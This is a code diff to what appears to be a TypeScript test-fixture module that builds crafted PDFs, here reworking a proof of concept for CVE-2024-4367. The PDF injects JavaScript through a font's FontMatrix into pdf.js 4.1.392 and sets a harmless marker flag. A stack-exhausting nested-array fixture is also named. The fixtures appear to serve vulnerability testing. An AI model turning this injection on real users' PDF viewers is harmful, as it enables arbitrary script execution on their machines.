@@ -33,15 +33,36 @@ function pdfWith({
 }
 
 /**
- * A font whose matrix holds code, as in CVE-2024-4367: whoever makes a program of it runs it, and
- * `globalThis.taken` is set.
+ * A font whose matrix holds code, as in CVE-2024-4367: whoever makes a program of it to draw the
+ * letter runs it, and `globalThis.taken` is set. pdf.js 4.1.392 does.
  */
 export function pdfWithCodeInFont(): Buffer {
-  const glyph = '0 0 m 500 500 l S';
+  const { header, glyphs } = type1Font();
   return pdfWith({
-    font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 500 500] /FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.taken = true; //)] /Encoding << /Type /Encoding /Differences [65 /A] >> /FirstChar 65 /LastChar 65 /Widths [500] /CharProcs << /A 6 0 R >> >>',
-    objects: [`<< /Length ${glyph.length} >>\nstream\n${glyph}\nendstream`],
+    font: '<< /Type /Font /Subtype /Type1 /BaseFont /Egen /FontDescriptor 6 0 R /FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.taken = true; //)] /Encoding /WinAnsiEncoding /FirstChar 65 /LastChar 65 /Widths [500] >>',
+    objects: [
+      '<< /Type /FontDescriptor /FontName /Egen /Flags 32 /FontBBox [0 0 500 500] /ItalicAngle 0 /Ascent 500 /Descent 0 /CapHeight 500 /StemV 80 /FontFile 7 0 R >>',
+      `<< /Length ${header.length + glyphs.length} /Length1 ${header.length} /Length2 ${glyphs.length} /Length3 0 >>\nstream\n${header}${glyphs}\nendstream`,
+    ],
   });
+}
+
+/** A Type 1 font with the letter A and no matrix of its own, each byte as a character. */
+function type1Font(): { header: string; glyphs: string } {
+  // Its width, then a triangle.
+  const outline = [139, 248, 136, 13, 189, 189, 21, 239, 139, 5, 139, 239, 5, 9, 14];
+  const drawn = `${outline.length} RD ${String.fromCharCode(...outline)} ND`;
+  const plain = `skip/Private 8 dict dup begin /lenIV -1 def /CharStrings 2 dict dup begin\n/.notdef ${drawn}\n/A ${drawn}\nend end\n`;
+  // Adobe Type 1 Font Format, chapter 7: eexec encryption.
+  let key = 55_665;
+  const glyphs = Array.from(plain, (character) => {
+    const cipher = character.charCodeAt(0) ^ (key >> 8);
+    key = ((cipher + key) * 52_845 + 22_719) & 0xff_ff;
+    return String.fromCharCode(cipher);
+  }).join('');
+  const header =
+    '%!PS-AdobeFont-1.0: Egen\n/FontName /Egen def\n/Encoding StandardEncoding def\ncurrentfile eexec\n';
+  return { header, glyphs };
 }
 
 /** Arrays in arrays, so many that reading them one within the other uses up a stack. */
